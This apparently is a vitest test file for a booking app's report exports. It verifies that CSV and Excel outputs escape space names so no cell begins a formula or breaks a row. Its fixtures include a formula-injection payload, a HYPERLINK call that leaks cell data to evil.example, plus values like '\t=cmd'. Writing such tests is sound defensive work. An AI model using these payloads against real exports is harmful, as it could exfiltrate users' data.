/**
 * No exported cell starts a formula and no name breaks a row, whatever a space's name or town
 * holds. The API refuses control characters in text fields, so the names are written straight
 * into the database, as an old row or an import could hold them.
 */
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spaces } from '../../src/db/schema.js';
import { createSpace, startApp, type SpaceFixture, type TestApp } from '../harness.js';
import { getBytes, parseCsv, readBook, startsFormula, zipEntry } from './export-helpers.js';
import { record } from './helpers.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';

describe('reports: formula injection', () => {
  let t: TestApp;
  let first: SpaceFixture;
  let second: SpaceFixture;

  beforeAll(async () => {
    t = await startApp({ now: '2027-10-20T10:00:00Z' });
    first = await createSpace(t);
    second = await createSpace(t);
    await t.app.db.update(spaces).set({ name: HYPERLINK, town: 'Winkel\r=1+1' }).where(eq(spaces.id, first.id));
    await t.app.db.update(spaces).set({ name: '-2+3\n@SUM(A1)', town: '\t=cmd' }).where(eq(spaces.id, second.id));
    await record(t, {
      deskId: first.deskIds[0]!,
      start: '2027-11-08T08:00:00Z',
      end: '2027-11-08T10:00:00Z',
      guestName: 'G',
    });
  });
  afterAll(() => t.close());

  const csv = async (path: string, delimiter: string) => {
    const res = await getBytes(t, path).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parseCsv((res.body as Buffer).toString('utf8'), delimiter);
    for (const row of rows) {
      for (const cell of row) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
      // every row as long as the header: no name ended a row early
      expect(row, JSON.stringify(row)).toHaveLength(rows[0]!.length);
    }
    return rows;
  };

  it('escapes and quotes names in the machine CSV of the monthly report', async () => {
    for (const [query, delimiter] of [
      ['', ','],
      ['&locale=de', ';'],
    ] as const) {
      const rows = await csv(`/api/spaces/${first.id}/reports/monthly?month=2027-11&format=csv${query}`, delimiter);
      expect(rows).toContainEqual(['spaceName', '', '', `'${HYPERLINK}`]);
      expect(rows).toContainEqual(['town', '', '', 'Winkel\r=1+1']);
      // one row a figure: 21 figures + 7 × 3 + 24 × 3, the groups empty (a guest only), 7 event
      // figures (no events, no rooms), and the header
      expect(rows).toHaveLength(1 + 21 + 21 + 72 + 7);
    }
  });

  it('escapes and quotes names in the machine and wide CSV of the usage series and the season', async () => {
    const machine = await csv(`/api/reports/usage?from=2027-11&to=2027-11&spaceId=${second.id}&format=csv`, ',');
    expect(machine[1]!.slice(1, 3)).toEqual([`'-2+3\n@SUM(A1)`, `'\t=cmd`]);
    for (const [locale, delimiter] of [
      ['de', ';'],
      ['en', ','],
    ] as const) {
      for (const space of [first, second]) {
        const wide = await csv(
          `/api/reports/usage?from=2027-10&to=2027-11&spaceId=${space.id}&format=csv&layout=wide&locale=${locale}`,
          delimiter,
        );
        expect(wide).toHaveLength(3);
      }
      const season = await csv(
        `/api/reports/season?from=2027-10&to=2027-11&spaceId=${first.id}&format=csv&layout=wide&locale=${locale}`,
        delimiter,
      );
      expect(season[1]!.slice(0, 2)).toEqual([`'${HYPERLINK}`, 'Winkel\r=1+1']);
      expect(season).toHaveLength(4);
      const wideMonthly = await csv(
        `/api/spaces/${second.id}/reports/monthly?month=2027-11&format=csv&layout=wide&locale=${locale}`,
        delimiter,
      );
      expect(wideMonthly[1]!.slice(0, 2)).toEqual([`'-2+3\n@SUM(A1)`, `'\t=cmd`]);
    }
  });

  it('writes names as text, never as a formula, in every workbook', async () => {
    for (const path of [
      `/api/spaces/${first.id}/reports/monthly?month=2027-11&format=xlsx`,
      `/api/reports/usage?from=2027-11&to=2027-11&spaceId=${second.id}&format=xlsx`,
      `/api/reports/season?from=2027-10&to=2027-11&spaceId=${first.id}&format=xlsx&locale=en`,
    ]) {
      const res = await getBytes(t, path).expect(200);
      const book = await readBook(res.body as Buffer);
      for (const sheet of book) {
        for (const row of sheet.data) {
          for (const cell of row) {
            if (typeof cell === 'string') expect(startsFormula(cell), `${path} ${JSON.stringify(cell)}`).toBe(false);
          }
        }
      }
      const [name, town] = book[0]!.data[1]!;
      expect(String(name).startsWith(`'`), path).toBe(true);
      expect(String(town), path).toMatch(/^(Winkel|')/);
      for (let i = 1; i <= book.length; i++) {
        expect(zipEntry(res.body as Buffer, `xl/worksheets/sheet${i}.xml`)).not.toMatch(/<f[\s>]/);
      }
    }
  });
});
